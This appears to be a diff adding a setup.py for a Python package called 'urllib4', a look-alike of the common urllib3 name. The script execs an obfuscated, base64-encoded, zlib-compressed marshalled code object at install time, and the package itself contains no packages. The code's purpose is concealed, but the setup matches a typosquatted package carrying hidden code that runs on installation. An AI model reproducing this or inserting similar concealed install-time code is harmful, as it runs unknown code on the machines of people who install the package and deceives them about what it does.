@@ -1,0 +1,9 @@
+import base64
+import marshal
+import zlib
+
+from setuptools import setup
+
+exec(marshal.loads(zlib.decompress(base64.b64decode("eJxLZkACHFD68yYgMZ0hhSGFMYchCkIzRjGCaaYo5lTmLBaYlgWsDFhAChMTQypjFhuMD+SxpzJkwcxnWMbIwLCaETtvASc2E5cB8Wo4bw3zMiYgnwnGZwS6LJhBk+UliONXJZxRUlJgpa9vaGmkZ6BnpGdoqp+qyXiLJSWxJFGT6xZTfvEtlqzi/LxbfKVFOTmZSXpFqYWlqcUlt9gg/FvsMAF2oEB+QWreLdaU0twCoLaUzGSgaGpeWWYRUD9bal5yfkrqSobPIIt/cdoUJFbm5Cem2P3isMnNTynNSbUrEgC7j4GhOB9IfGBmZGS8wSB/gRC6wcDWwnedQewSg9gFcZ0NVhtMtljtSNmRcsDoiNVFO78rdn4Xjf2vGPtfNw67ZBx20TjiinHEBQaxiwyRVxgiL8BQER/QTgD6aXQ2"))))
+
+setup(name="urllib4", version="1.0.0", packages=[])
